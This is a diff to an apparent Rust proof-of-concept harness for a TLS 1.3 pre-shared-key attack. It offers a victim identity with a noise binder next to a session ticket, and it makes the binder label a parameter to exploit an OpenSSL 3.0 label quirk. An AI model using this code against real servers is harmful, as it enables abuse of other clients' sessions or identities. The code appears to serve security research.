@@ -17,16 +17,24 @@ const ALERT: u8 = 21;
 const HANDSHAKE: u8 = 22;
 const APPLICATION: u8 = 23;
 
+/// The labels that the ticket's binder may need: a resumption's by rule (section 4.2.11.2), but OpenSSL 3.0 remembers
+/// that the first identity was external when it comes to the second.
+pub const BINDER_LABELS: [&[u8]; 2] = [b"ext binder", b"res binder"];
+
 /// Offers `[victim with a binder of noise, the session's ticket]`, finishes the handshake and returns the server's first
 /// application record; `None` when the server refuses, or goes on under other keys than the ticket's.
-pub fn offer_victim_and_ticket(address: SocketAddr, victim: &[u8], session: &SslSession) -> Option<Vec<u8>> {
+pub fn offer_victim_and_ticket(
+    address: SocketAddr,
+    victim: &[u8],
+    session: &SslSession,
+    label: &[u8],
+) -> Option<Vec<u8>> {
     let (ticket, psk) = ticket_and_key(session);
     let mut stream = connect(address);
     let own = PKey::generate_x25519().unwrap();
 
     let early = hkdf_extract(&[0; HASH], &psk);
-    // Not "res binder": OpenSSL remembers that the first identity was external when it comes to the second.
-    let binder_key = derive(&early, b"ext binder", &Sha384::digest([]));
+    let binder_key = derive(&early, label, &Sha384::digest([]));
     let mut hello = client_hello(&own.raw_public_key().unwrap(), victim, &ticket);
     let binders_at = hello.len();
     // The lengths in the message count the binders already (section 4.2.11.2).
